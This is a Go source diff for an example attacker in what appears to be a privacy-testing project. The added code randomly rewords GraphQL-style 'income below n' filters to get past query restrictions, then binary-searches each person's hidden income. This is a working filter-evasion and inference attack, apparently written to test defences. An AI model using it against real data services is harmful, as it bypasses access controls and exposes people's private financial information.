@@ -6,10 +6,14 @@ package filters
 
 import (
 	"context"
+	"errors"
+	"maps"
+	"slices"
 	"strconv"
 	"strings"
 
 	"github.com/weir-data/weir/examples/attackers/target"
+	"github.com/weir-data/weir/examples/attackers/wording"
 )
 
 // Attack is the attacker.
@@ -67,8 +71,10 @@ func run(ctx context.Context, c *target.Client, cs *target.Case) (map[string]str
 		cs.Say("%s: %s", probe, strings.Join(append(a.Codes, "answered")[:1], ""))
 	}
 	if work == nil {
-		cs.Say("no filter on it is answered: nothing to count by")
-		return guesses, nil
+		var err error
+		if work, err = search(ctx, c, cs); err != nil || work == nil {
+			return guesses, err
+		}
 	}
 	for _, id := range cs.IDs {
 		low, high := 0, 1000 // low <= income < high
@@ -87,6 +93,55 @@ func run(ctx context.Context, c *target.Client, cs *target.Case) (map[string]str
 		guesses[id] = strconv.Itoa(low)
 	}
 	return guesses, nil
+}
+
+// search draws ways to ask, about people whose incomes it knows, until one is
+// answered as an income would have it, or no query is left.
+func search(ctx context.Context, c *target.Client, cs *target.Case) (*shape, error) {
+	d, ids := wording.Draw{Rand: cs.Random}, slices.Sorted(maps.Keys(cs.Known))
+	drawn, codes := 0, map[string]int{}
+	for {
+		s := draw(d)
+		id := ids[drawn%len(ids)]
+		income, err := strconv.Atoi(cs.Known[id])
+		if err != nil {
+			return nil, err
+		}
+		// A shape that works finds everybody, above his income and not at it.
+		works := true
+		for _, n := range []int{income + 1, income} {
+			a, err := below(ctx, c, s, id, n)
+			if errors.Is(err, target.ErrSpent) {
+				cs.Say("%d further shapes drawn: %v", drawn, codes)
+				return nil, err
+			}
+			if err != nil {
+				return nil, err
+			}
+			codes[strings.Join(append(a.Codes, "answered")[:1], "")]++
+			works = works && len(a.Codes) == 0 && len(target.List(a.Data, "persons")) > 0 == (n > income)
+		}
+		if drawn++; works {
+			cs.Say("answered: %s", s.text)
+			return &s, nil
+		}
+	}
+}
+
+// draw words "the income is below #" in some way.
+func draw(d wording.Draw) shape {
+	leaf := d.One(`{income: {_lt: #}}`, `{income: {_lt: $n}}`, `{_not: {income: {_gte: #}}}`, `{income: {_lte: #, _neq: #}}`, `{income: {_lt: #, _gt: -1}}`,
+		`{_or: [{income: {_lt: #}}, {income: {_in: []}}]}`, `{_and: [{income: {_lt: #}}, {income: {_is_null: false}}]}`, `{_not: {_or: [{income: {_gt: #}}, {income: {_eq: #}}]}}`)
+	condition := `{_and: [{idNumber: {_eq: "@"}}, ` + d.Around(leaf, 4) + `]}`
+	if d.IntN(4) == 0 {
+		condition = d.Around(`{idNumber: {_eq: "@"}, _and: [`+leaf+`]}`, 2)
+	}
+	args := d.One(``, `limit: 1, `, `orderBy: [{idNumber: ASC}], `, `offset: 0, `) + `where: ` + condition
+	head := `{ `
+	if strings.Contains(args, "$n") {
+		head = `query($n: Int!) { `
+	}
+	return shape{"drawn", head + d.One(`persons(`+args+`)`, `persons: persons(`+args+`)`) + ` { idNumber }` + d.One(``, ` other: persons(limit: 1) { idNumber }`, ` __typename`) + ` }`}
 }
 
 func below(ctx context.Context, c *target.Client, s shape, id string, n int) (*target.Answer, error) {
